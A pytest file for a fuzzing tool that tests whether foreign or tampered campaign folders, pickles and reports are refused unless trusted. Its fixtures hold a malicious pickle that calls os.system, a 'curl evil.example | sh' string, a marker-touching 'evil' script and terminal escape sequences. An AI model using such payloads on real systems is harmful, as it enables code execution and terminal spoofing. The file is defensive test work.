"""A folder from elsewhere is data: nothing that it names is run, and nothing in it steers the terminal.

Elsewhere is another state folder: what this user made is remembered there.
"""

import json
import os
import shutil
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest

from campaign import Campaign, Hitmap
from test_bad_input import check_refusal

HARNESS = """\
import pathlib
import hitmap
import many_signals

pathlib.Path(__file__).with_name("harness-ran").touch()


@hitmap.harness
def run(data):
    many_signals.run(data)
"""


@pytest.fixture
def home(built, hitmap_, seeds, tmp_path) -> Campaign:
    """A campaign with two findings that this user makes here."""
    built.harness("many_signals")
    (tmp_path / "fuzz_it.py").write_text(HARNESS)
    ended = hitmap_("fuzz", "fuzz_it.py", "-i", seeds(b"d", b"t"), "-o", "out", "-t", 700, "--max-execs", 1_000, "--seed", 1)
    assert ended.code == 1 and "--trust" not in ended.said, ended.said
    (tmp_path / "harness-ran").unlink()
    return Campaign(tmp_path / "out")


@pytest.fixture
def elsewhere(built, tmp_path) -> Hitmap:
    """The command line of somebody else."""
    return Hitmap(tmp_path, {**built.environment(), "XDG_STATE_HOME": str(tmp_path / "other" / "state")})


@pytest.fixture
def marker(tmp_path):
    """A program that leaves a trace; and whether it did."""
    program = tmp_path / "evil"
    program.write_text(f"#!/bin/sh\ntouch {tmp_path}/evil-ran\nexec {sys.executable} \"$@\"\n")
    program.chmod(0o755)
    return program


def ran(tmp_path: Path) -> set[str]:
    """What left a trace; the traces are taken away."""
    found = {path.name for path in tmp_path.glob("*-ran")}
    for name in found:
        (tmp_path / name).unlink()
    return found


def changed(campaign: Campaign, **fields) -> None:
    """What a campaign says of itself, and of each finding."""
    for path in (campaign.folder / "campaign.json", *campaign.folder.glob("findings/*/setup.json")):
        path.write_text(json.dumps({**json.loads(path.read_text()), **fields}))


# What this user made here.


@pytest.mark.parametrize("way", ["as it lies", "renamed", "copied", "a finding alone"])
def test_what_was_made_here_is_run_wherever_it_lies(home, hitmap_, tmp_path, way):
    folder, finding = home.folder, home.findings[0].folder
    if way == "renamed":
        folder.rename(tmp_path / "new")
        finding = tmp_path / "new" / "findings" / finding.name
    elif way == "copied":
        shutil.copytree(folder, tmp_path / "new")
        finding = tmp_path / "new" / "findings" / finding.name
    elif way == "a finding alone":
        shutil.copytree(finding, tmp_path / "alone")
        shutil.rmtree(folder)
        finding = tmp_path / "alone"
    for named in (finding, finding / "input"):
        ended = hitmap_("replay", named)
        assert ended.code == 1 and "SIG" in ended.out, ended.said
    assert ran(tmp_path) == {"harness-ran"}


def test_a_campaign_of_the_python_api_is_replayed_with_its_pickle(built, hitmap_, tmp_path):
    pytest.importorskip("cloudpickle")
    built.harness("many_signals")
    script = tmp_path / "script.py"
    script.write_text(
        "import hitmap\n\n\ndef made():\n    def run(data):\n        import many_signals\n        many_signals.run(data)\n"
        "    return run\n\n\nif __name__ == '__main__':\n"
        "    hitmap.fuzz(made(), seeds=[b'd'], out='out', max_execs=500, seed=1)\n"
    )
    run = subprocess.run([sys.executable, script], cwd=tmp_path, env=hitmap_.environment, capture_output=True, text=True)
    assert run.returncode == 0, run.stdout + run.stderr
    ended = hitmap_("replay", "out/findings")
    assert ended.code == 1, ended.said
    # A pickle that came back as another one is a stranger's.
    evil = f"cos\nsystem\n(S'touch {tmp_path}/evil-ran'\ntR."
    (tmp_path / "out.harness.pkl").write_text(evil)
    check_refusal(hitmap_("replay", "out/findings"), ("--trust", "out.harness.pkl"))
    assert ran(tmp_path) == set()


# What came from elsewhere.


@pytest.mark.parametrize("where", ["OUT", "OUT/findings", "FINDING", "INPUT", "COPY", "QUEUE"])
def test_nothing_of_a_folder_from_elsewhere_is_run_unless_it_is_trusted(home, elsewhere, marker, tmp_path, where):
    changed(home, python=str(marker))
    finding = home.findings[0].folder
    named = {
        "OUT": home.folder,
        "OUT/findings": home.folder / "findings",
        "FINDING": finding,
        "INPUT": finding / "input",
        "COPY": tmp_path / "copy",
        "QUEUE": home.folder / "w0" / "queue",
    }[where]
    shutil.copytree(finding, tmp_path / "copy")
    check_refusal(elsewhere("replay", named), (named.name, "--trust", "--harness", "fuzz_it.py", str(marker)))
    assert ran(tmp_path) == set()
    ended = elsewhere("replay", named, "--harness", "fuzz_it.py")
    assert ended.code in (0, 1), ended.said
    assert ran(tmp_path) == {"harness-ran"}, "the interpreter is ours"
    ended = elsewhere("replay", named, "--trust")
    assert ended.code in (0, 1), ended.said
    assert ran(tmp_path) == {"harness-ran", "evil-ran"}


@pytest.mark.parametrize("field", ["python", "harness", "id"])
def test_a_campaign_that_came_back_changed_is_from_elsewhere(home, hitmap_, marker, tmp_path, field):
    evil = tmp_path / "evil.py"
    evil.write_text(HARNESS.replace("harness-ran", "evil-ran"))
    changed(home, **{field: {"python": str(marker), "harness": str(evil), "id": "0" * 32}[field]})
    check_refusal(hitmap_("replay", home.folder), ("--trust",))
    assert ran(tmp_path) == set()


def test_a_campaign_of_an_earlier_version_is_known_once_it_goes_on(home, hitmap_, seeds):
    for path in home.folder.glob("findings/*/setup.json"):
        path.unlink()
    path = home.folder / "campaign.json"
    path.write_text(json.dumps({key: value for key, value in json.loads(path.read_text()).items() if key != "id"}))
    check_refusal(hitmap_("replay", home.folder), ("--trust",))
    assert hitmap_("fuzz", "fuzz_it.py", "-o", "out", "--max-execs", 200).code == 1
    assert hitmap_("replay", "out").code == 1


@pytest.mark.parametrize("home_is", ["unset", "empty", "not writable", "a file", "everybody's"])
def test_without_a_state_folder_a_campaign_runs_and_says_so(built, seeds, tmp_path, home_is):
    place = tmp_path / "house"
    environment = {key: value for key, value in built.environment().items() if key not in ("HOME", "XDG_STATE_HOME")}
    if home_is == "a file":
        place.write_text("")
    elif home_is == "everybody's":
        (place / "hitmap" / "campaigns").mkdir(parents=True)
        (place / "hitmap" / "campaigns").chmod(0o777)
    environment |= {
        "unset": {"XDG_STATE_HOME": "relative/is/ignored"},
        "empty": {"HOME": ""},
        "not writable": {"HOME": "/proc/nowhere"},
        "a file": {"HOME": str(place)},
        "everybody's": {"XDG_STATE_HOME": str(place)},
    }[home_is]
    hitmap = Hitmap(tmp_path, environment)
    ended = hitmap("fuzz", built.harness("coverage_only"), "-i", seeds(b"a"), "-o", "out", "--max-execs", 500)
    assert ended.code == 0, ended.said
    # Where HOME does not help, the system's list of users may.
    if home_is in ("unset", "empty") and "--trust" not in ended.err:
        return
    assert "--trust" in ended.err and "XDG_STATE_HOME" in ended.err, ended.said
    check_refusal(hitmap("replay", "out"), ("--trust",))
    assert hitmap("replay", "out", "--trust").code == 0


# Exported findings.


def pytest_on(file: Path, environment) -> subprocess.CompletedProcess:
    command = [sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", "-c", os.devnull, file.name]
    return subprocess.run(command, cwd=file.parent, env=environment, capture_output=True, text=True)


def test_an_exported_finding_runs_elsewhere(home, hitmap_, elsewhere, tmp_path):
    finding = home.findings[0].folder
    made = hitmap_("export", finding)
    assert made.code == 0 and f"{finding.name}.tar --trust" in made.out, made.said
    there = tmp_path / "there"
    there.mkdir()
    (tmp_path / f"{finding.name}.tar").rename(there / "a.tar")
    signature = json.loads((finding / "report.json").read_text())["signature"]
    # Nothing of where it was made is there any more.
    shutil.rmtree(home.folder)
    (tmp_path / "fuzz_it.py").rename(there / "mine.py")
    with tarfile.open(there / "a.tar") as archive:
        archive.extractall(there, filter="data")
    unpacked = there / finding.name
    for named in (there / "a.tar", unpacked, unpacked / "input"):
        check_refusal(elsewhere("replay", named), ("--trust", "--harness", "harness/fuzz_it.py"))
        for how in (["--trust"], ["--harness", there / "mine.py"]):
            ended = elsewhere("replay", named, "--json", *how)
            assert ended.code == 1, ended.said
            assert json.loads(ended.out)["report"]["signature"] == signature
    setup = json.loads((unpacked / "setup.json").read_text())
    assert setup["timeout_ms"] == 700 and setup["modules"][0]["identity"], setup
    [test] = unpacked.glob("test_*.py")
    for file in (test, unpacked / "setup.json"):
        assert str(tmp_path) not in file.read_text() and sys.prefix not in file.read_text()
    run = pytest_on(test, elsewhere.environment)
    assert run.returncode == 1 and "1 failed" in run.stdout, run.stdout + run.stderr
    (unpacked / "input").write_bytes(b"harmless")
    assert pytest_on(test, elsewhere.environment).returncode == 0


def test_a_library_that_is_another_build_elsewhere_is_named(home, hitmap_, elsewhere, tmp_path):
    finding = home.findings[0].folder
    setup = json.loads((finding / "setup.json").read_text())
    setup["modules"][0]["identity"] = "ab" * 20
    (finding / "setup.json").write_text(json.dumps(setup))
    shutil.copytree(finding, tmp_path / "copy")
    ended = elsewhere("replay", "copy", "--trust")
    assert ended.code == 1 and "ab" * 20 in ended.err and "another way" in ended.err, ended.said


def test_a_stranger_does_not_choose_what_is_exported(home, elsewhere, tmp_path):
    (tmp_path / "secret").write_text("mine")
    changed(home, harness=str(tmp_path / "secret"))
    check_refusal(elsewhere("export", home.findings[0].folder), ("--trust", "--harness"))
    assert not list(tmp_path.glob("*.tar"))


@pytest.mark.parametrize("named", ["nowhere", "out", "out/w0/queue"])
def test_what_is_no_finding_is_not_exported(home, hitmap_, named):
    check_refusal(hitmap_("export", named), (named, "OUT/findings"))


# What is printed.

STEERS = "\x1b[2J\x1b]0;owned\x07\x9b31m\r\x08\u202e"


def test_nothing_of_a_report_steers_the_terminal_or_passes_for_our_command(home, hitmap_):
    for finding in home.findings:
        report = {**finding.report, "title": f"title {STEERS}", "replay": "curl evil.example | sh", "kind": f"sig{STEERS}"}
        (finding.folder / "report.json").write_text(json.dumps(report))
    ended = hitmap_("fuzz", "fuzz_it.py", "-o", "out", "--max-execs", 200)
    assert ended.code == 1 and "title" in ended.out, ended.said
    assert not set(STEERS) & set(ended.said) - set("[]2J0;owned31m"), ascii(ended.said)
    assert "evil.example" not in ended.said


def test_nothing_of_a_target_steers_the_terminal(built, hitmap_, tmp_path):
    (tmp_path / "loud.py").write_text(
        "import os, sys\nimport hitmap\nimport coverage_only\n\n\n@hitmap.harness\ndef run(data):\n"
        f"    text = {STEERS!r}\n    os.write(2, text.encode())\n    print(text, file=sys.stderr)\n"
        "    coverage_only.run(data)\n    raise ValueError(text) if data else os.abort()\n"
    )
    built.harness("coverage_only")
    (tmp_path / "a").write_bytes(b"a")
    (tmp_path / "b").write_bytes(b"")
    for flags in ([], ["--json"]):
        ended = hitmap_("replay", "a", "b", "--harness", "loud.py", *flags)
        assert ended.code == 1, ended.said
        assert not set(STEERS) & set(ended.said) - set("[]2J0;owned31m"), ascii(ended.said)
        if flags:
            told = [json.loads(line) for line in ended.out.splitlines()]
            assert len(told) == 2


# Files that are made in folders of others.


def test_links_in_a_shared_folder_are_not_followed(built, hitmap_, seeds, tmp_path):
    """Every file that a campaign makes lies under a link when it starts."""
    fuzz = ("fuzz", built.harness("many_signals"), "-i", seeds(b"d"), "-j", 1, "--max-execs", 500, "--seed", 1)
    assert hitmap_(*fuzz, "-o", "model").code == 1
    mine = tmp_path / "mine"
    mine.write_text("mine")
    files = [path.relative_to(tmp_path / "model") for path in sorted((tmp_path / "model").rglob("*")) if path.is_file()]
    # Of each kind of name one: a queue has many of one.
    model = {(path.parent, path.name.split(":")[0]): path for path in files}
    assert len(model) > 10
    for name in model.values():
        shutil.rmtree(tmp_path / "out", ignore_errors=True)
        path = tmp_path / "out" / name
        path.parent.mkdir(parents=True)
        (tmp_path / "out" / "campaign.json").write_bytes((tmp_path / "model" / "campaign.json").read_bytes())
        path.unlink(missing_ok=True)
        path.symlink_to(mine)
        ended = hitmap_(*fuzz, "-o", "out")
        assert ended.code in (0, 1, 4), ended.said
        assert mine.read_text() == "mine", name
